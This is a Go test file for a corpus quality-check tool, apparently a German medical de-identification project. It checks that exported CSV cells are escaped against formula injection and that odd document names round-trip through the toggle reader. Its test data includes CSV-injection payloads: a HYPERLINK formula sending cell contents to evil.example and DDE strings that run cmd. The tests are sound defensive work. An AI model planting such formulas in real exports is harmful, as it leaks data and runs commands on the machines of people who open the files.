package qc

import (
	"bytes"
	"encoding/csv"
	"errors"
	mrand "math/rand"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/quick"

	"golang.org/x/text/encoding/charmap"
)

// formulaNames are document names and originals that a spreadsheet would
// run as formulas if written verbatim (issue 26, finding 5).
var formulaNames = []string{
	`=HYPERLINK("http://evil.example/?d="&A2,"Befund")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
}

// formulaProject is a project whose document names, originals and
// suspects begin with formula characters.
func formulaProject() *Project {
	p := &Project{Project: "p"}
	for i, n := range formulaNames {
		p.Docs = append(p.Docs, &Doc{
			Document:     n,
			Readable:     true,
			PartOfCorpus: i%2 == 0,
			Distinct:     map[string][]string{"NAME_PATIENT": {"=Meier", "-Schulz"}},
			Suspects:     []Suspect{{Begin: 1, End: 5, Kind: "NAME_PATIENT", Text: "@Wendelmuth"}},
			Flags:        []Flag{{Kind: FlagOther, Span: 1, Label: "OTHER", Text: "+49 30 1234"}},
		})
	}
	return p
}

// TestCSVCellsNeverFormulas: no cell of any CSV qc writes begins with =,
// +, -, @, tab or CR (OWASP's rule against CSV injection): the files the
// README tells reviewers to open in a spreadsheet.
func TestCSVCellsNeverFormulas(t *testing.T) {
	dir := t.TempDir()
	p := formulaProject()
	if err := p.Write(dir); err != nil {
		t.Fatal(err)
	}
	files := map[string][]byte{}
	for _, f := range []string{FileDocuments, FileDetails, FileStats, FileSuspects} {
		b, err := os.ReadFile(filepath.Join(dir, f))
		if err != nil {
			t.Fatal(err)
		}
		files[f] = b
	}
	files["CSV(Tables())"] = CSV(p.Tables()["corpus_documents"])
	files["CSV(toggle rows)"] = CSV([][]string{{"project", "document", "part_of_corpus"}, {"-p", formulaNames[0], "1"}})
	for f, b := range files {
		rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		n := 0
		for i, row := range rows {
			for j, c := range row {
				if c != "" && strings.IndexByte(formulaStart, c[0]) >= 0 {
					t.Errorf("%s: row %d cell %d begins with a formula character: %q", f, i+1, j+1, c)
				}
				if strings.HasPrefix(c, "'") {
					n++
				}
			}
		}
		if n == 0 && f != FileStats { // statistics: kinds and counts only
			t.Errorf("%s: no escaped cell", f)
		}
	}
}

// roundTrip writes names through the QC report (corpus_documents.csv)
// and through CSV (the web app's toggle file, with a project column) and
// reads both back with ReadToggle, edit-free: every name must come back
// exactly, with its decision.
func roundTrip(t *testing.T, names []string) {
	t.Helper()
	p := &Project{Project: "p"}
	toggle := [][]string{{"project", "document", "part_of_corpus"}}
	for i, n := range names {
		p.Docs = append(p.Docs, &Doc{Document: n, Readable: true, PartOfCorpus: i%3 != 0})
		toggle = append(toggle, []string{n + "\x00proj", n, b01(i%3 != 0)})
	}
	dir := t.TempDir()
	if err := p.Write(dir); err != nil {
		t.Fatal(err)
	}
	webapp := filepath.Join(dir, "toggle.csv")
	if err := os.WriteFile(webapp, CSV(toggle), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, path := range []string{filepath.Join(dir, FileDocuments), webapp} {
		tg, err := ReadToggle(path)
		if err != nil {
			t.Fatalf("%s: %v (names %q)", filepath.Base(path), err, names)
		}
		run := map[string][]string{"p": names}
		project := func(string) string { return "p" }
		if path == webapp {
			run = map[string][]string{}
			for _, n := range names {
				run[n+"\x00proj"] = []string{n}
			}
			project = func(n string) string { return n + "\x00proj" }
		}
		if err := tg.ValidateRun(run); err != nil {
			t.Fatalf("%s: %v (names %q)", filepath.Base(path), err, names)
		}
		if tg.Len() != len(names) {
			t.Fatalf("%s: %d rows read, %d written (names %q)", filepath.Base(path), tg.Len(), len(names), names)
		}
		for i, n := range names {
			inc, listed := tg.Decision(project(n), n)
			if !listed || inc != (i%3 != 0) {
				t.Fatalf("%s: name %q read back as listed=%v include=%v", filepath.Base(path), n, listed, inc)
			}
		}
	}
}

// win1252 returns s encoded as Windows-1252: not UTF-8 (a file name from a
// German Windows zip tool).
func win1252(s string) string {
	b, err := charmap.Windows1252.NewEncoder().String(s)
	if err != nil {
		panic(err)
	}
	return b
}

// trickyNames are the fixed cases of the round trip.
var trickyNames = append([]string{
	"brief.txt",
	`Brief "Müller", Kopie.txt`,
	"zwei\nZeilen.txt",
	"crlf\r\nZeilen.txt",
	"cr\rallein.txt",
	" führendes Leerzeichen.txt",
	"folgendes Leerzeichen.txt ",
	"\u00a0geschütztes Leerzeichen.txt",
	"\tTab.txt",
	"\rCR.txt",
	"'Anna.txt",
	"''zwei.txt",
	"'=HYPERLINK()",
	`'"kein Zitat`,
	`'"\t"`,
	"'",
	"''",
	`"`,
	"=",
	"-",
	"sep=;",
	"document",
	"part_of_corpus",
	"\ufeffBOM.txt",
	"a;b,c\td",
	`\x41.txt`,
	"Sch\u00f6n.txt",
	"Scho\u0308n.txt",
	win1252("Brückner_Größe.txt"),
	win1252("Ärztin – Befund.txt"),
	"\xff\xfe",
	"\x00null.txt",
}, formulaNames...)

// pieces make up the generated names: formula characters, quotes, white
// space of several kinds, line ends, separators, umlauts in UTF-8 and in
// cp1252, escape-like text.
var pieces = []string{"=", "+", "-", "@", "\t", "\r", "\n", "\r\n", " ", "\u00a0", "\u2028", "'", `'"`, `"`, `""`, ",", ";",
	"\\", `\x`, "ä", "ß", win1252("ö"), win1252("€"), "\xc3", "Brief", ".txt", "HYPERLINK(", "|", "!A0", "0", "1", "sep=", "\x00", "😀"}

// TestToggleRoundTripNames: run --toggle reads back exactly the names qc
// wrote, for any name (fixed cases, a seeded generator and testing/quick
// strings), through both writers.
func TestToggleRoundTripNames(t *testing.T) {
	roundTrip(t, trickyNames)
	for _, n := range trickyNames {
		roundTrip(t, []string{n})
	}
	r := rand.New(rand.NewPCG(26, 5))
	for range 300 {
		seen := map[string]bool{}
		var names []string
		for range 1 + r.IntN(8) {
			var b strings.Builder
			for range 1 + r.IntN(6) {
				b.WriteString(pieces[r.IntN(len(pieces))])
			}
			if n := b.String(); !seen[n] {
				seen[n] = true
				names = append(names, n)
			}
		}
		roundTrip(t, names)
	}
	err := quick.Check(func(n string, raw []byte) bool {
		names := []string{n, string(raw)}
		if n == "" || len(raw) == 0 || n == string(raw) {
			return true
		}
		roundTrip(t, names)
		return !t.Failed()
	}, &quick.Config{MaxCount: 200, Rand: mrand.New(mrand.NewSource(26))})
	if err != nil {
		t.Fatal(err)
	}
}

// TestToggleEscapedCells: how the toggle reader reads the escaped cells
// of a file a reviewer edited: a spreadsheet that drops the ' keeps the
// name; a reviewer's own 'x stays; a damaged quoted name is refused by
// line, without the name.
func TestToggleEscapedCells(t *testing.T) {
	for _, tc := range []struct{ cell, want, err string }{
		{"'=SUM(1)", "=SUM(1)", ""},
		{"=SUM(1)", "=SUM(1)", ""}, // saved by a spreadsheet that hid the '
		{"''Anna", "'Anna", ""},
		{"'Anna", "'Anna", ""}, // written by a reviewer
		{`"'""\tTab.txt"""`, "\tTab.txt", ""},
		{`"'""M\xfcller"""`, "M\xfcller", ""},
		{`"'""geheim"`, "", "line 2: document: a cell beginning with '\" must be a quoted name"},
	} {
		p := filepath.Join(t.TempDir(), "t.csv")
		os.WriteFile(p, []byte("document,part_of_corpus\n"+tc.cell+",1\n"), 0o600)
		tg, err := ReadToggle(p)
		if tc.err != "" {
			if err == nil || !strings.Contains(err.Error(), tc.err) || !errors.Is(err, ErrToggle) || strings.Contains(err.Error(), "geheim") {
				t.Errorf("%s: err %v, want %q without the name", tc.cell, err, tc.err)
			}
			continue
		}
		if err != nil {
			t.Errorf("%s: %v", tc.cell, err)
			continue
		}
		if _, listed := tg.Decision("p", tc.want); !listed {
			t.Errorf("%s: %q not listed", tc.cell, tc.want)
		}
	}
}

// FuzzToggleReader: any bytes are either refused with ErrToggle or read
// into rows all decided; and any name qc writes (with the part_of_corpus
// of the fuzzed bytes' length) is read back exactly.
func FuzzToggleReader(f *testing.F) {
	f.Add([]byte("document,part_of_corpus\nbrief.txt,1\n"), "brief.txt")
	f.Add([]byte("document,part_of_corpus\n\"'\"\"\\tx\"\"\",1\n"), "\tx")
	f.Add([]byte("document;part_of_corpus\r\n'=A1;0\r\n"), "=HYPERLINK(\"x\")")
	f.Add([]byte("sep=;\ndocument;part_of_corpus\n''x;1\n"), win1252("Müller\r\n"))
	f.Fuzz(func(t *testing.T, data []byte, name string) {
		if rows, lines, err := readToggleCSV(data); err != nil {
			if !errors.Is(err, ErrToggle) && !strings.Contains(err.Error(), "qc: toggle") {
				t.Fatalf("unwrapped error %v", err)
			}
		} else if tg, err := parseToggle(rows, lines, true); err != nil {
			if !errors.Is(err, ErrToggle) {
				t.Fatalf("error without ErrToggle: %v", err)
			}
		} else {
			for _, r := range tg.rows {
				if _, listed := tg.Decision(r.project, r.doc); !listed {
					t.Fatalf("row of line %d not decided", r.line)
				}
			}
		}
		if name == "" {
			return
		}
		inc := len(data)%2 == 1
		rows, lines, err := readToggleCSV(CSV([][]string{{"document", "part_of_corpus"}, {name, b01(inc)}}))
		if err != nil {
			t.Fatalf("%q: %v", name, err)
		}
		tg, err := parseToggle(rows, lines, true)
		if err != nil {
			t.Fatalf("%q: %v", name, err)
		}
		if got, listed := tg.Decision("p", name); !listed || got != inc || tg.Len() != 1 {
			t.Fatalf("%q not read back (listed %v, include %v, %d rows)", name, listed, got, tg.Len())
		}
	})
}
